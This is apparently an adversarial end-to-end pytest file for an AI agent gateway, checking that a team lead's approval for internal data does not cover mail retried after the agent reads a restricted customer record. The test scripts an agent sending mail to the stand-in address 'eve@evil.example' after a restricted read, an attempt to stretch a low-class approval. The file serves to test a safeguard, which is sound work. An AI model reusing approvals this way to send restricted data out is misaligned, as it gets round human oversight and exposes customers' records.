"""An approval covers only the class of data it was asked for: an agent cannot get a low-class
approval and then raise what the request exposes before it retries. Its own module, so its own
stack: the writer starts with no restricted label in its history."""

from __future__ import annotations

import uuid
from typing import Any

import pytest
import requests

from tests.adversarial.conftest import WRITER, Attacker, verdict

pytestmark = [pytest.mark.e2e, pytest.mark.adversarial]

TASK = "x-agent-task-token"
APPROVAL = "x-agent-approval-id"


def _approvals(attacker: Attacker, method: str, path: str, token: str, **kw: Any) -> requests.Response:
    url = f"{attacker.stack.sidecar_url}/v1/approvals{path}"
    return requests.request(method, url, headers={"authorization": f"Bearer {token}"}, timeout=10, **kw)


def test_a_team_leads_approval_does_not_cover_mail_sent_after_a_restricted_read(attacker: Attacker) -> None:
    """Mail to an outside address needs an approver of internal data (a team lead may); the writer
    gets one, then reads a customer record (restricted) and retries the very same mail with it.
    Only an approver of restricted data may let that out: the retry steps up again and asks them,
    and the team lead's approval is given back unused."""
    task = attacker.open_task(WRITER, "outreach", ["email:send", "records:read"])
    session = {**attacker.bearer(WRITER), TASK: task["token"], "mcp-session-id": str(uuid.uuid4())}
    mail = attacker.mcp_body("send_email", {"to": "eve@evil.example", "subject": "hi", "body": "notes"})

    asked = attacker.send("POST", "/mcp", session, json=mail)
    assert asked.status_code == 401, asked.text
    first = verdict(asked)["step_up"]
    assert first["approvers"] == {"data_class": "internal"}
    lead = attacker.stack.oidc.mint("bob", ["team-leads"])  # may approve internal data only
    decided = _approvals(attacker, "POST", f"/{first['approval_id']}/approve", lead, json={"reason": "ok"})
    assert decided.status_code == 200, decided.text

    read = attacker.send("GET", "/api/records/7", {**attacker.bearer(WRITER), TASK: task["token"]})
    assert read.status_code == 200, read.text

    retried = attacker.send("POST", "/mcp", {**session, APPROVAL: first["approval_id"]}, json=mail)
    assert retried.status_code == 401, f"a team lead's approval let restricted data out: {retried.text}"
    again = verdict(retried)["step_up"]
    assert again["approvers"] == {"data_class": "restricted"} and again["approval_id"] != first["approval_id"]
    security = attacker.stack.oidc.mint("alice", ["security-approvers"])
    kept = _approvals(attacker, "GET", f"/{first['approval_id']}", security)
    assert kept.status_code == 200 and kept.json()["status"] == "approved", "given back, not used up"
